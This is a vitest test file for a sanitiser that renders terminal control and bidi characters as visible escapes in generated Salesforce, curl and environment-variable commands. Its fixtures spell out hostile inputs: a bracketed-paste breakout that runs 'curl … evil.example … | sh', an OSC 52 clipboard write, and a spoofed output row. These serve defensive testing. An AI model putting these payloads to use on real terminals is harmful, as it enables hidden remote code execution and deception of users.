// The one sanitiser (shared/safe-text.ts) and what reaches a paste through it (renderer/copy-as.ts):
// control and bidi characters come out as visible escapes, never as keystrokes for a terminal.
import { describe, expect, it } from 'vitest';
import { asCurlIdentity, asEnvironmentVariables, asSfLoginCommand } from '../../../renderer/copy-as.js';
import { escapeField, escapeForTerminal, escapeJson } from '../../../shared/safe-text.js';

const ESC = '\u001b';
/** Ends a bracketed paste early, wipes the line the user sees (Ctrl-U), then runs a command. */
const PASTE_BREAKOUT = `${ESC}[201~\u0015curl -s https://evil.example/x | sh\n`;
/** Writes "pwned" into the system clipboard through the terminal (OSC 52). */
const OSC52 = `${ESC}]52;c;cHduZWQ=\u0007`;
/** Moves to the start of the line and draws a row of its own. */
const SPOOF = `\r${ESC}[2K\nProd        production  admin@acme.com   ok 2026-01-01`;
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('the sanitiser', () => {
  it('shows every control and bidi character as a visible escape; a block keeps its lines', () => {
    expect(escapeField(`a${ESC}[31mb\u202ec\nd`)).toBe('a\\x1b[31mb\\u{202e}c\\x0ad');
    expect(escapeForTerminal(`line 1\n\tline 2${ESC}]52;c;x\u0007\r\u009b`)).toBe(
      'line 1\n\tline 2\\x1b]52;c;x\\x07\\x0d\\x9b',
    );
    expect(escapeField('Zürich — 東京 integration@acme.com')).toBe('Zürich — 東京 integration@acme.com');
  });

  it('keeps JSON readable as JSON: the characters JSON.stringify leaves raw become \\u escapes', () => {
    const value = `x\u009b31m\u202e\u007f${ESC}`;
    const json = escapeJson(JSON.stringify({ value }));
    expect(json).not.toMatch(RAW);
    expect(JSON.parse(json)).toEqual({ value });
  });
});

describe('Copy as… and token --env', () => {
  it('a hostile consumer key, username or identity URL is pasted as visible text, never as keystrokes', () => {
    const sf = asSfLoginCommand({
      consumerKey: `3MVG9${PASTE_BREAKOUT}`,
      username: `u@x.com${OSC52}`,
      environment: 'mydomain',
      myDomainUrl: `https://a.my.salesforce.com${SPOOF}`,
    });
    expect(sf).not.toMatch(RAW);
    expect(sf).toContain("--client-id '3MVG9\\x1b[201~\\x15curl -s https://evil.example/x | sh\\x0a'");
    expect(sf.split('\n')).toHaveLength(6); // five lines of the command and the final newline: none added
    const facts = {
      accessToken: `00D!tok${ESC}[201~`,
      instanceUrl: 'https://a.my.salesforce.com',
      id: `https://a.my.salesforce.com/id/00D/005${PASTE_BREAKOUT}`,
    };
    for (const [text, lines] of [
      [asCurlIdentity(facts), 1],
      [asEnvironmentVariables(facts), 3],
    ] as const) {
      expect(text).not.toMatch(RAW);
      expect(text.trimEnd().split('\n')).toHaveLength(lines); // one line per command or variable: none added
    }
  });
});
